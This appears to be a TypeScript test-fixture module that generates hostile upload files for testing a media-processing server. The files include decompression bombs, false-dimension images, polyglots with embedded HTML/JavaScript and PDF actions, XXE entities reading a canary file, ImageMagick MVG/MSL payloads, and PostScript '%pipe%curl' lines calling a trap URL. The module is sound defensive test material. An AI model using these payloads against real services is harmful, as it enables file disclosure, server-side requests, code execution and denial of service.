import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { atom, gif, hostile, movie, patched, png, type Trap, u16, u32, zip } from './parts.testing.ts';

const dot = () => sharp({ create: { width: 16, height: 16, channels: 3, background: 'red' } });
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 ** 2);

export async function bombs() {
  const avif = await dot().avif({ effort: 0 }).toBuffer();
  const profile = Buffer.concat([Buffer.from('icc\0\0'), deflateSync(zeros(64))]);
  const nested = Array(4_000)
    .fill(0)
    .reduce<Buffer>((inside) => atom('moov', inside), Buffer.alloc(0));
  const dimensions = Buffer.concat([u32(60_000), u32(60_000)]);
  return [
    hostile('pixels.png', png(30_000, 30_000)),
    hostile('tall.png', png(8, 1_000_000)),
    hostile('claimed.png', png(8, 8, 0x7fff_ffff)),
    hostile('profile.png', png(8, 8, 8, ['iCCP', profile])),
    hostile(
      'words.png',
      png(8, 8, 8, ['zTXt', Buffer.concat([Buffer.from('k\0\0'), deflateSync(zeros(64))])]),
    ),
    hostile(
      'claimed.jpg',
      patched(await dot().jpeg().toBuffer(), '\xff\xc0', 3, Buffer.from('fff0fff0', 'hex')),
    ),
    hostile('claimed.avif', patched(avif, 'ispe', 4, dimensions)),
    hostile('claimed.heic', patched(patched(avif, 'ftyp', 0, Buffer.from('heic')), 'ispe', 4, dimensions)),
    hostile('claimed.webp', 'RIFF', u32(0), 'WEBPVP8X', Buffer.from('0a00000010000000ffff3fffff3f', 'hex')),
    hostile('screen.gif', gif(1, 65_535)),
    hostile('frames.gif', gif(20_000)),
    hostile('large-frames.gif', gif(900, 5_000)),
    hostile('claimed.tiff', await claimedTiff()),
    hostile('nested.mp4', movie, nested),
    hostile('entries.mp4', movie, atom('moov', atom('trak', atom('stsz', u32(0), u32(1), u32(0xffff_ffff))))),
    hostile('archive.gz', gzipSync(zeros(64))),
    hostile('archive.zip', zip('big', deflateSync(zeros(64)), 64 * 1024 ** 2)),
  ];
}

async function claimedTiff(): Promise<Buffer> {
  const tiff = await dot().tiff({ compression: 'deflate' }).toBuffer();
  for (const tag of [256, 257])
    tiff.writeUInt32LE(90_000, tiff.indexOf(Buffer.concat([u16(tag), u16(3)])) + 8);
  return tiff;
}

export async function liars() {
  const jpeg = await dot().jpeg().toBuffer();
  const webp = await dot().webp().toBuffer();
  return [
    hostile('words.jpg', 'These are words.'),
    hostile('page.png', '<!doctype html><script>self.ran=1</script>'),
    hostile('program.jpeg', 'MZ', Buffer.alloc(600, 0x90)),
    hostile('picture.mp4', await dot().png().toBuffer()),
    hostile('picture.txt', jpeg),
    hostile('empty.heic'),
    hostile('half.jpg', jpeg.subarray(0, jpeg.length / 2)),
    hostile('short.webp', patched(webp, 'RIFF', 0, Buffer.from('ffffff7f', 'hex'))),
    hostile('beyond.png', patched(png(64, 64), 'IDAT', -8, u32(0x7fff_ffff))),
    hostile('beyond.gif', gif(1).subarray(0, 24)),
    hostile('beyond.mov', u32(0xffff_fff0), 'moov', Buffer.alloc(2_000)),
  ];
}

/** Files that the server and other programs read as different types. */
export async function polyglots({ url }: Trap) {
  const script = `self.ran=1;fetch('${url}/ran')`;
  const page = `<html><body><script>${script}</script><img src="${url}/img"></body></html>`;
  const picture = await dot().jpeg().toBuffer();
  const comment = Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    u32(page.length + 2).subarray(2),
    Buffer.from(page),
  ]);
  const inExif = await dot()
    .withExif({ IFD0: { ImageDescription: page } })
    .jpeg()
    .toBuffer();
  const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("${url}/pdf"))>>>>endobj\n`;
  return [
    hostile('gifar.gif', gif(1), zip('Evil.class', Buffer.from(script))),
    hostile('script.gif', 'GIF89a/*', gif(1).subarray(8), `*/=1;${script}`),
    hostile('comment.gif', gif(1, 1, `<script>${script}</script>`)),
    hostile('comment.jpg', picture.subarray(0, 2), comment, picture.subarray(2)),
    hostile('exif.jpg', inExif),
    hostile('behind.jpg', picture, page),
    hostile('text.png', png(8, 8, 8, ['tEXt', Buffer.from(`Title\0${page}`)])),
    hostile('behind.png', png(8, 8), page),
    hostile(
      'pdf.jpg',
      picture.subarray(0, 2),
      comment.subarray(0, 2),
      u32(pdf.length + 2).subarray(2),
      pdf,
      picture.subarray(2),
    ),
    hostile('page.mp4', atom('ftyp', 'isom', u32(512), 'isom', page), atom('free', page)),
    hostile('script.wav', `RIFF/*${'\0'.repeat(2)}WAVE*/=1;${script}`),
    hostile('script.js', script),
    hostile('page.html', page),
    hostile('worker.js.png', `self.addEventListener('fetch',()=>{});${script}`),
  ];
}

/** Formats that no decoder here may receive. */
export function untrusted({ url, canary }: Trap) {
  const entity = `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${canary}"><!ENTITY f SYSTEM "${url}/dtd">]>`;
  const svg = (inside: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${inside}</svg>`;
  return [
    hostile('script.svg', svg(`<script>self.ran=1;fetch('${url}/svg')</script>`)),
    hostile('onload.svg', svg('').replace('<svg', `<svg onload="self.ran=1;fetch('${url}/onload')"`)),
    hostile('image.svg', svg(`<image xlink:href="${url}/image"/><image xlink:href="file://${canary}"/>`)),
    hostile('entity.svg.png', entity, svg('<text>&e;&f;</text>')),
    hostile('entity.xml', entity, '<x>&e;&f;</x>'),
    hostile('styled.xml', `<?xml-stylesheet href="${url}/style.xsl" type="text/xsl"?><x/>`),
    hostile(
      'drawing.mvg.jpg',
      `push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 9,9 'url(${url}/mvg)'\n`,
    ),
    hostile('script.msl', `<image><read filename="${canary}"/><write filename="out.png"/></image>`),
    hostile('page.ps', `%!PS\n(${canary}) (r) file 100 string readstring pop print\n%pipe%curl ${url}`),
    hostile('page.eps.jpg', `%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%curl ${url}/eps) (w) file\n`),
    hostile('paper.pdf', `%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI(${url}/pdf)>>>>endobj`),
    hostile('light.exr', Buffer.from('762f310102000000', 'hex'), Buffer.alloc(900, 255)),
    hostile('layers.psd', '8BPS\0\x01', Buffer.alloc(900, 255)),
    hostile('bits.bmp', 'BM', Buffer.alloc(900, 127)),
    hostile('far.jp2', Buffer.from('0000000c6a5020200d0a870a', 'hex'), Buffer.alloc(900, 9)),
    hostile('stars.fits', 'SIMPLE  =                    T'.padEnd(80), 'NAXIS   = 999999999'.padEnd(2800)),
  ];
}
